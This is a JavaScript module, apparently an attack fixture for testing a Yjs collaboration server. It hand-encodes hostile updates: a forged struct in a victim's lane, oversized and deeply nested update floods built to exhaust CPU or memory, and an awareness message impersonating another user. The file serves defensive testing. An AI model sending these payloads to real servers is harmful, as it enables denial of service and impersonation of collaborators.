/**
 * What somebody with an editor's link, a script and a grudge sends. Each attack is made of the very
 * bytes that stock Yjs takes; `update` gives one Yjs update (v1), `awareness` an awareness update.
 */
import * as encoding from '../../node_modules/lib0/encoding.js'

/** Of structs, in the low five bits of their info: see `readItemContent` in Yjs. */
const GC = 0
const CONTENT_STRING = 4
const CONTENT_TYPE = 7
const HAS_ORIGIN = 0x80
const HAS_KEY = 0x20
const Y_MAP = 1
const ATTACKER = 666
const NOBODY = 667

/** @typedef {{ clientId: number, clock: number }} Victim whose next change has this clock */

/** @type {Readonly<Record<string, { title: string, update?: (victim: Victim) => Uint8Array, awareness?: (victim: Victim) => Uint8Array }>>} */
export const ATTACKS = {
  future: {
    title: 'a struct in the victim’s lane, before they write it',
    update: ({ clientId, clock }) =>
      updateOf(clientId, clock, 1, (encoder) => {
        encoding.writeUint8(encoder, GC)
        encoding.writeVarUint(encoder, 1_000)
      }),
  },
  dependants: {
    title: '1 MB of structs that build on nothing, each by somebody else',
    update: () => structsOfMany(84_000),
  },
  roots: {
    title: '700 kB of names of roots',
    update: () =>
      updateOf(ATTACKER, 0, 50_000, (encoder, n) => {
        encoding.writeUint8(encoder, CONTENT_STRING)
        encoding.writeVarUint(encoder, 1)
        encoding.writeVarString(encoder, `root${n.toString(36).padStart(6, '0')}`)
        encoding.writeVarString(encoder, 'x')
      }),
  },
  nested: {
    title: '20,000 maps, each in the one before, deleted',
    update: () =>
      updateOf(
        ATTACKER,
        0,
        20_000,
        (encoder, n) => {
          encoding.writeUint8(encoder, CONTENT_TYPE | HAS_KEY)
          encoding.writeVarUint(encoder, n === 0 ? 1 : 0)
          if (n === 0) encoding.writeVarString(encoder, 'nest')
          else writeId(encoder, n - 1)
          encoding.writeVarString(encoder, 'k')
          encoding.writeVarUint(encoder, Y_MAP)
        },
        1,
      ),
  },
  impostor: {
    title: 'presence as somebody else, at the last clock there is',
    awareness: ({ clientId }) =>
      encoding.encode((encoder) => {
        encoding.writeVarUint(encoder, 1)
        encoding.writeVarUint(encoder, clientId)
        encoding.writeVarUint(encoder, Number.MAX_SAFE_INTEGER)
        encoding.writeVarString(encoder, JSON.stringify({ person: { name: IMPOSTOR } }))
      }),
  },
}

/** What the impostor calls themselves. */
export const IMPOSTOR = 'Not the victim'

/** @param deleted so many of the structs, from the first, are deleted */
function updateOf(client, clock, count, writeStruct, deleted = 0) {
  return encoding.encode((encoder) => {
    encoding.writeVarUint(encoder, 1)
    encoding.writeVarUint(encoder, count)
    encoding.writeVarUint(encoder, client)
    encoding.writeVarUint(encoder, clock)
    for (let n = 0; n < count; n += 1) writeStruct(encoder, n)
    encoding.writeVarUint(encoder, deleted > 0 ? 1 : 0)
    if (deleted === 0) return
    encoding.writeVarUint(encoder, client)
    encoding.writeVarUint(encoder, 1)
    encoding.writeVarUint(encoder, clock)
    encoding.writeVarUint(encoder, deleted)
  })
}

/**
 * One struct each, after one that nobody has. For every client that Yjs can do nothing for just now, it
 * goes through the list of all: so this costs the square of what it is.
 */
function structsOfMany(clients) {
  return encoding.encode((encoder) => {
    encoding.writeVarUint(encoder, clients)
    for (let n = clients; n > 0; n -= 1) {
      encoding.writeVarUint(encoder, 1)
      encoding.writeVarUint(encoder, NOBODY + n)
      encoding.writeVarUint(encoder, 0)
      encoding.writeUint8(encoder, CONTENT_STRING | HAS_ORIGIN)
      encoding.writeVarUint(encoder, NOBODY)
      encoding.writeVarUint(encoder, n)
      encoding.writeVarString(encoder, 'x')
    }
    encoding.writeVarUint(encoder, 0)
  })
}

function writeId(encoder, clock) {
  encoding.writeVarUint(encoder, ATTACKER)
  encoding.writeVarUint(encoder, clock)
}
